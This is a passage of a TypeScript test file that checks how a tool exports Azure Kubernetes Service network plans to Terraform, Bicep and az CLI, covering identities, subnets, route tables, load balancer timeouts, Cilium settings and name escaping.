      const text = exported(defaulted, format);
      expect(text).toContain("AKS creates the cluster's VNet, with its nodes in 10.224.0.0/16 as planned");
      for (const absent of ['VNET_NAME', 'vnetName', 'subnet create', 'vnet_subnet_id', 'vnetSubnetID'])
        expect(text).not.toContain(absent);
    }
  });

  it('gives kubenet with its own route table a user-assigned identity in every format', async () => {
    const lab: PlanInput = {
      ...udrLab,
      network: { plugin: 'kubenet', vnetAddressSpace: ['10.42.0.0/16'], nodeSubnet: '10.42.1.0/24' },
    };
    const hcl = await terraformOf(lab);
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].identity).toEqual([
      { type: 'UserAssigned', identity_ids: ['${var.identity_id}'] },
    ]);
    expect(hcl.variable.identity_id).toBeDefined();
    const script = exported(lab, 'az-cli');
    expect(script).toContain('"${IDENTITY_ID:?set IDENTITY_ID}"');
    expect(script).toContain('--assign-identity "$IDENTITY_ID"');
    const bicepText = exported(lab, 'bicep');
    expect(bicepText).toContain('param identityId string');
    expect(bicepText).toContain(
      "type: 'UserAssigned'\n    userAssignedIdentities: {\n      '${identityId}': {",
    );
    expect(bicepText).toContain('// AKS adds a route per node to this table.');
    // Azure CNI keeps a system-assigned identity and no identity variable.
    expect((await terraformOf(udrLab)).resource.azurerm_kubernetes_cluster.this[0].identity).toEqual([
      { type: 'SystemAssigned' },
    ]);
    expect(exported(udrLab, 'az-cli')).not.toContain('IDENTITY_ID');
    expect(exported(udrLab, 'bicep')).not.toContain('AKS adds a route per node');
  });

  it("says that the plan's API server subnet needs API Server VNet Integration, in every format", () => {
    for (const format of ['terraform', 'bicep', 'az-cli'] as const)
      expect(exported(udrLab, format)).toContain('The plan puts the API server in its own subnet');
    expect(exported(udrLab, 'bicep')).toContain('in ARM API versions that have them, not 2024-09-01');
    expect(exported(kubenet, 'terraform')).not.toContain('API Server VNet Integration');
  });

  it('says where azurerm and the az CLI refuse a load balancer idle timeout AKS takes (101-120 minutes)', async () => {
    const idle = (minutes: number): PlanInput => ({
      ...overlayDualStack,
      outbound: { type: 'loadBalancer', managedOutboundIps: 2, idleTimeoutMinutes: minutes },
    });
    const terraform = exported(idle(110), 'terraform');
    expect(terraform).toMatch(
      /# azurerm accepts a load balancer idle timeout of 4-100 minutes, not 110, though AKS takes up to 120: deploy it with the Bicep export, or lower it\.\n(.*\n){2}\s*idle_timeout_in_minutes = 110\n/,
    );
    expect((await parse('main.tf', terraform)).resource).toBeDefined();
    const az = exported(idle(110), 'az-cli');
    expect(az).toMatch(
      /# The az CLI accepts a load balancer idle timeout of 4-100 minutes, not 110.*\naz aks create /,
    );
    expect(az).toContain("--load-balancer-idle-timeout '110'");
    expect(exported(idle(110), 'bicep')).not.toContain('4-100 minutes');
    for (const format of ['terraform', 'az-cli'] as const)
      expect(exported(idle(100), format)).not.toContain('4-100 minutes');
  });

  it('says in Terraform that azurerm documents Cilium with overlay or a pod subnet only', () => {
    const nodeSubnetCilium: PlanInput = {
      name: 'cilium-nodes',
      network: { plugin: 'azure-cni-node-subnet', dataplane: 'cilium', nodeSubnet: '10.240.0.0/24' },
      nodePools: [{ name: 'system', nodeCount: 3 }],
    };
    const note = 'azurerm documents network_data_plane "cilium" with overlay or a pod subnet only';
    expect(exported(nodeSubnetCilium, 'terraform')).toContain(note);
    expect(exported(nodeSubnetCilium, 'az-cli')).not.toContain(note);
    expect(exported(overlayDualStack, 'terraform')).not.toContain(note);
  });

  it('says when the System pool AKS creates first is not the first pool the plan lays out', () => {
    expect(exported(overlayDualStack, 'terraform')).toContain(
      '# AKS creates the System pool system with the cluster, before the pools listed above it in the design',
    );
    expect(exported(kubenet, 'terraform')).not.toContain('before the pools listed above it');
  });
});

describe('what the exports write exactly (rules a mutation round found unwatched)', () => {
  it('associates the route table with the routed subnets only, never the firewall or Bastion subnet', () => {
    const updates = exported(udrLab, 'az-cli').match(/--route-table '/g) ?? [];
    expect(updates).toHaveLength(1);
  });

  it("sets Cilium's network policy with its dataplane in the az CLI", () => {
    expect(exported(overlayDualStack, 'az-cli')).toContain(
      "--network-dataplane 'cilium' \\\n  --network-policy 'cilium'",
    );
    expect(exported(kubenet, 'az-cli')).not.toContain('--network-policy');
  });

  it('delegates an Application Gateway for Containers subnet to its service, in every format', async () => {
    const agc: PlanInput = { ...udrLab, platformSubnets: [{ role: 'application-gateway-for-containers' }] };
    const service = 'Microsoft.ServiceNetworking/trafficControllers';
    expect(exported(agc, 'az-cli')).toContain(`--delegations '${service}'`);
    expect(exported(agc, 'bicep')).toContain(`serviceName: '${service}'`);
    expect(exported(agc, 'terraform')).toContain(`name = "${service}"`);
  });

  it("numbers the cluster's subnet when a platform subnet has its name in another case", () => {
    const clash: PlanInput = {
      ...udrLab,
      name: 'UDR-Lab',
      platformSubnets: [{ role: 'other', name: 'udr-lab-nodes', prefixLength: 28 }],
    };
    expect(exported(clash, 'az-cli')).toContain("--name 'UDR-Lab-nodes-2'");
  });

  it('ends a DNS prefix cut at 54 characters with a letter or digit', async () => {
    const name = `${'x'.repeat(53)}_${'y'.repeat(9)}`;
    const hcl = await terraformOf({ ...kubenet, name });
    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].dns_prefix).toBe('x'.repeat(53));
  });

  it('creates Bicep subnets one after another: Azure refuses concurrent writes to one VNet', () => {
    const bicep = exported(udrLab, 'bicep');
    const depends = bicep.match(/dependsOn: \[\s*\w+\s*\]/g) ?? [];
    expect(depends.length).toBeGreaterThanOrEqual(3);
  });

  it("escapes a stored name's single quote in Bicep", () => {
    const stored = loadDesign({ ...planDesign(kubenet).spec, name: "o'brien" }, []);
    expect(exportDesign(stored, 'bicep', 'a dump').text).toContain("name: 'o\\'brien'");
  });
});
